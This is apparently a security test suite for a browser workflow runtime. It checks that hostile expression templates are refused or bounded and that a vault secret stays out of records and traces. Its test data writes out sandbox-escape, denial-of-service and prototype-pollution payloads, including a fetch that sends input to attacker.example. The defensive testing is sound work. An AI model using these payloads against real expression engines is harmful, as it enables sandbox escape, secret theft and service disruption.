/**
 * A workflow written by one member runs in the browser of another whose vault is unlocked:
 * every expression trick is refused or bounded with a clear error, and the secret the run used
 * never reaches the execution record or the trace.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runWorkflow } from '../../../src/runtime/run-workflow.ts';
import type { TraceEvent } from '../../../src/runtime/trace.ts';
import { startLlmTestServer, type LlmTestServer } from './support/llm-test-server.ts';
import { ANY_INPUT, MemorySink, edge, node, vault, workflow } from './support/workflows.ts';

let server: LlmTestServer;
beforeAll(async () => {
  server = await startLlmTestServer();
});
afterAll(async () => {
  await server.close();
});

const SECRET = 'sk-live-HOSTILE-0123456789abcdef';

/** trigger → llm (uses the secret; echoes it) → transform with the hostile template → output. */
async function runHostile(template: string, mode: 'template' | 'condition' = 'template') {
  const sink = new MemorySink();
  const events: TraceEvent[] = [];
  const hostile =
    mode === 'template'
      ? node('evil', 'transform', { template })
      : node('evil', 'condition', { branches: [{ id: 'b', label: 'B', expression: template }] });
  const record = await runWorkflow({
    executionId: 'ex-hostile',
    workflow: workflow(
      [
        node('t', 'trigger', ANY_INPUT),
        node('l', 'llm', {
          provider: 'openai-compatible',
          model: 'echo-key',
          secretId: 'key',
          userPrompt: 'hi',
        }),
        hostile,
        node('o', 'output', { format: 'json' }),
      ],
      [
        edge('t', 'payload', 'l', 'input'),
        edge('l', 'text', 'evil', 'input'),
        edge('evil', mode === 'template' ? 'output' : 'branch-b', 'o', 'result'),
      ],
    ),
    input: { name: 'Ada' },
    secrets: vault({ key: SECRET }),
    llmBaseUrls: { 'openai-compatible': `${server.url}/v1` },
    sink,
    onEvent: (event) => events.push(event),
  });
  const everything = JSON.stringify({ record, sink: sink.records, events });
  return { record, everything };
}

describe('hostile expressions', () => {
  it.each([
    [
      'constructor.constructor',
      '{{ input.constructor.constructor("return process")() }}',
      /cannot use "constructor"/,
    ],
    ['globalThis', '{{ $globalThis.process.exit(1) }}', /cannot reach "\$globalThis"/],
    [
      'fetch',
      '{{ fetch("http://attacker.example/?k=" & input) }}',
      /Attempted to invoke a non-function/,
    ],
    ['$fetch', '{{ $fetch("http://attacker.example") }}', /cannot reach "\$fetch"/],
    [
      'infinite loop',
      '{{ ($loop := function($i) { $loop($i + 1) }; $loop(0)) }}',
      /ran longer than 1000 ms/,
    ],
    [
      'deep recursion',
      '{{ ($f := function($n) { 1 + $f($n + 1) }; $f(0)) }}',
      /nested deeper than 200 levels/,
    ],
    [
      'a 10 MB template result',
      '{{ $pad("", 10 * 1024 * 1024, "x") }}',
      /longer than 1000000 characters/,
    ],
    [
      'a doubling string',
      '{{ ($d := function($s, $n) { $n = 0 ? $s : $d($s & $s, $n - 1) }; $d("xx", 40)) }}',
      /longer than 1000000 characters/,
    ],
    ['a huge list', '{{ [1..10000000] }}', /list longer than 100000 items/],
    [
      'catastrophic regex',
      '{{ $match("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", /(a+)+$/) }}',
      /exponential time/,
    ],
    [
      'eval of an endless loop',
      '{{ $eval("($f := function($x) { $f($x) }; $f(1))") }}',
      /timeout|ran longer/i,
    ],
  ])(
    '%s is refused or stopped with a clear error naming the node',
    async (_name, template, message) => {
      const started = performance.now();
      const { record, everything } = await runHostile(template);
      expect(record.status).toBe('failed');
      expect(record.error).toMatch(/^Node "evil" failed: /);
      expect(record.node_results['evil']!.error).toMatch(message);
      // The LLM before it ran with the secret and the server echoed it back.
      expect(record.node_results['l']!.status).toBe('succeeded');
      expect(record.node_results['l']!.output).toBe('key=[secret]');
      expect(everything).not.toContain(SECRET);
      expect(performance.now() - started).toBeLessThan(20_000);
    },
  );

  it('prototype pollution through an object key or $merge changes no prototype', async () => {
    for (const template of [
      '{{ {"__proto__": {"polluted": true}} }}',
      '{{ $merge([{}, {"constructor": {"prototype": {"polluted": true}}}]) }}',
      '{{ input ~> | __proto__ | {"polluted": true} | }}',
    ]) {
      const { record, everything } = await runHostile(template);
      expect(record.node_results['evil']!.error).toMatch(
        /cannot (use|build) a? ?"(__proto__|constructor)"/,
      );
      expect(everything).not.toContain(SECRET);
    }
    // A key computed at run time is data like any other and changes nothing either.
    const computed = await runHostile(
      '{{ $merge([{}, {("__pro" & "to__"): {"polluted": true}}]) }}',
    );
    expect(computed.record.status).toBe('succeeded');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('a condition expression gets the same sandbox', async () => {
    const { record } = await runHostile('$eval("[1..10000000]")', 'condition');
    expect(record.status).toBe('failed');
    expect(record.node_results['evil']!.error).toMatch(/^Branch "B": /);
  });

  it('a template that reshapes an echoed secret only ever sees the placeholder', async () => {
    // The server echoed the key; the LLM node's output is scrubbed before the next node sees
    // it, so no reshaping (a substring, upper case) can bring it back.
    const { record, everything } = await runHostile(
      '{{ $substring(input, 4) }} and {{ $uppercase(input) }}',
    );
    expect(record.status).toBe('succeeded');
    expect(record.output).toBe('[secret] and KEY=[SECRET]');
    expect(everything).not.toContain(SECRET);
  });

  it('a JavaScript-style expression is not run as JavaScript', async () => {
    const { record } = await runHostile('{{ (() => { globalThis.hacked = true })() }}');
    expect(record.status).toBe('failed');
    expect((globalThis as Record<string, unknown>)['hacked']).toBeUndefined();
  });
});
